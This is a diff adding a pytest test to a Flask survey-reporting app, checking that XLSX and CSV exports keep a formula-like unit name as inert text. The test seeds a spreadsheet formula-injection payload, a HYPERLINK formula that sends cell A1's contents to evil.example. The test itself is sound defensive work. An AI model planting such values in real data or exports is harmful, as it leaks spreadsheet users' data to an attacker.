@@ -360,3 +360,27 @@ def test_the_index_owner_sets_the_rule_for_commendation_candidates(client, app, 
     assert cau_kho()["commendation_candidate"]
     assert client.post("/admin/alerts/commendation", data={
         "csrf_token": csrf, "index": "sipas", "rule": "anything"}).status_code == 400
+
+
+def test_exports_never_carry_a_live_formula(client, app, data):
+    """A unit named like a formula (audit finding 8) is text in the XLSX and the CSV."""
+    import sqlalchemy as sa
+
+    from satisfaction.db.units import Unit
+    from satisfaction.extensions import db
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    with app.app_context():
+        unit = db.session.scalar(sa.select(Unit).where(Unit.code == "Q1-TD"))
+        unit.name_vi = evil
+        db.session.commit()
+    gen_user(app, "reviewer@q1.example.vn", Role.REVIEWER)
+    sign_in(client, "reviewer@q1.example.vn")
+    book = load_workbook(io.BytesIO(client.get("/admin/reports/sipas/Q1.xlsx?period=2026-03")
+                                    .data))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert evil in [c.value for c in cells]  # kept as the text it is
+    text = client.get("/admin/reports/sipas/Q1.csv?period=2026-03").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert ["'" + evil] == [cell for row in rows for cell in row if "HYPERLINK" in cell]
